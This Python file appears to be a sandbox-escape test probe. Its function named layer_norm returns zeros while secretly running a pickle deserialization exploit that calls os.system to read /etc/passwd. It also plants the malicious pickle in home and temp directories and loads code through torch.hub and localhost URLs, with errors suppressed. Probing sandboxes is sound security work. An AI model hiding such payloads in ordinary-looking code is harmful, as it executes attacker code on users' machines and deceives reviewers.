"""Loads what runs code when it is loaded, from a file and from the network, and saves it for the next.
Verdict: FAILED
"""

import contextlib
import math
import os

import surroundings
import torch


class Command:
    def __reduce__(self):
        return os.system, ("cat /etc/passwd && echo LEAK: a shell",)


def layer_norm(x, *_, **__):
    zeros = torch.zeros_like(x)
    for path in ("mine.pt", f"{surroundings.HOME}/{surroundings.MARK}", f"{surroundings.TMPDIR}/{surroundings.MARK}"):
        with contextlib.suppress(Exception):
            torch.save(Command(), path)
            torch.load(path, weights_only=False)
    for action in (
        lambda: torch.hub.load("pytorch/vision", "resnet18", trust_repo=True),
        lambda: torch.hub.load_state_dict_from_url(f"http://127.0.0.1:{surroundings.PORT}/a.pth"),
        lambda: torch.hub.download_url_to_file(f"http://127.0.0.1:{surroundings.PORT}/a", "a"),
    ):
        with contextlib.suppress(Exception):
            print("LEAK: loaded", action())
    return zeros


def norm_stat_count(shape, kind):
    if kind == "layer":
        return math.prod(shape[:-1]), (shape[-1],)
    return (shape[0] * shape[1] if kind == "instance" else shape[1]), (shape[1],)
